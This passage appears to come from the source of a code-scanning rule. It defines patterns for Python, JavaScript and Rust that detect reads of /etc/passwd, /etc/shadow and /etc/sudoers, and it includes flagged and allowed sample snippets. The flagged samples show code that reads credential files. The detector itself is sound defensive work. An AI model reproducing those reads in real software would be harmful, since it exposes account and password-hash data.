        "Use the system's interface (`pwd`, `os.userInfo`) for the one account that "
        "matters.",
        {
            "python": (
                r"open(0/file: /etc\W(?:passwd|shadow|sudoers|master\.passwd)$/)",
                r"pathlib.Path(0: /etc\W(?:passwd|shadow|sudoers)$/)",
                r"os.system(0: /etc\W(?:passwd|shadow|sudoers)\b/)",
                r"os.popen(0: /etc\W(?:passwd|shadow|sudoers)\b/)",
                r"subprocess.*(0/args: /etc\W(?:passwd|shadow|sudoers)\b/)",
                r"os.open(0: /etc\W(?:passwd|shadow|sudoers)$/)",
            ),
            "javascript": (
                r"fs.*(0: /^.etc\W(?:passwd|shadow|sudoers)$/)",
                r"child_process.*(0: /.etc\W(?:passwd|shadow|sudoers)\b/)",
            ),
            "rust": (
                r"std.fs.read_to_string(0: /^.etc\W(?:passwd|shadow|sudoers)$/)",
                r"std.fs.File.open(0: /^.etc\W(?:passwd|shadow|sudoers)$/)",
            ),
        },
        bad={
            "python": ("text = open('/etc/passwd').read()\n",),
            "javascript": ("require('fs').readFileSync('/etc/shadow');\n",),
            "rust": ('fn main() { std::fs::read_to_string("/etc/passwd"); }\n',),
        },
        good={
            "python": ("text = open('/etc/hosts').read()\n",),
            "javascript": ("require('fs').readFileSync('/etc/hosts');\n",),
            "rust": ('fn main() { std::fs::read_to_string("/etc/hosts"); }\n',),
        },
    ),
)
